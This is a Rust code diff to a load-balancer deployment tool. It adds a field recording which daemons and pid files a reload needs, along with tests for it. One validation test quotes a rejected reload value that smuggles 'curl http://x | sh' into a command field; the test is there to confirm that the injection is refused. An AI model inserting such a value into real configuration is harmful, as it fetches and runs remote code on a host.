@@ -339,6 +339,7 @@ impl PlannedHost {
     /// What the host is handed: the files the plan changes, and its services' commands.
     pub fn deployment(&self) -> Deployment {
         Deployment {
+            host: self.host.clone(),
             files: self
                 .files
                 .iter()
@@ -564,6 +565,49 @@ mod tests {
         }
     }
 
+    /// `apply FILE` asks whether the daemons whose reload needs them running run, as `apply`
+    /// does: the plan names them, with their pid files. systemd's reload and HAProxy's master
+    /// CLI need them (the example's defaults, the lab's HAProxy); a command of the inventory's
+    /// own does not (the lab's keepalived), nor the UDP health watcher's restart; lbctl knows
+    /// no pid file of nginx's.
+    #[test]
+    fn a_plan_names_the_daemons_whose_reload_needs_them_running() {
+        let running = |dir: &str| {
+            let dir_plan = plans_of(dir);
+            let scratch = scratch("running");
+            let path = scratch.join("p");
+            dir_plan.write(&path).unwrap();
+            let read = SavedPlan::read(&path, true).unwrap();
+            let _ = std::fs::remove_dir_all(&scratch);
+            let host = &read.hosts[0];
+            let running: BTreeMap<Service, Option<(String, String)>> = host
+                .controls
+                .iter()
+                .map(|(service, control)| (*service, control.running.clone()))
+                .collect();
+            (running, host.deployment().host)
+        };
+        let named = |what: &str, pid_file: &str| Some((what.to_string(), pid_file.to_string()));
+        let (example, host) = running("inventory/example");
+        assert_eq!(host, "lb1");
+        assert_eq!(
+            example,
+            BTreeMap::from([
+                (Service::Haproxy, named("HAProxy", "/run/haproxy.pid")),
+                (
+                    Service::Keepalived,
+                    named("keepalived", "/run/keepalived.pid")
+                ),
+                (Service::Nginx, None),
+                (Service::UdpHealth, None),
+                (Service::UdpHealthUnit, None),
+            ])
+        );
+        let (lab, _) = running("inventory/lab");
+        assert_eq!(lab[&Service::Haproxy], named("HAProxy", "/run/haproxy.pid"));
+        assert_eq!(lab[&Service::Keepalived], None);
+    }
+
     fn file(service: Service, path: &str, content: &str) -> PlannedFile {
         PlannedFile {
             service,
@@ -579,7 +623,15 @@ mod tests {
     fn control(service: Service, reload: &str) -> (Service, ServiceControl) {
         let check = deployment::check_command(service).into();
         let reload = reload.into();
-        (service, ServiceControl { check, reload })
+        let running = None;
+        (
+            service,
+            ServiceControl {
+                check,
+                reload,
+                running,
+            },
+        )
     }
 
     fn host(name: &str) -> PlannedHost {
@@ -750,6 +802,14 @@ mod tests {
         assert_eq!(
             reload,
             "lb1: hosts[0].controls.nginx.reload: \"true\\ncurl http://x | sh\" is refused: expected a non-empty command on a single line"
+        );
+        let running = refused("running", true, |h| {
+            h.controls.get_mut(&Service::Haproxy).unwrap().running =
+                Some(("HAProxy".into(), "run/haproxy.pid".into()));
+        });
+        assert!(
+            running.starts_with("lb1: hosts[0].controls.haproxy.running: \"run/haproxy.pid\""),
+            "{running}"
         );
         let none = refused("no-control", true, |h| {
             h.controls.remove(&Service::Haproxy);
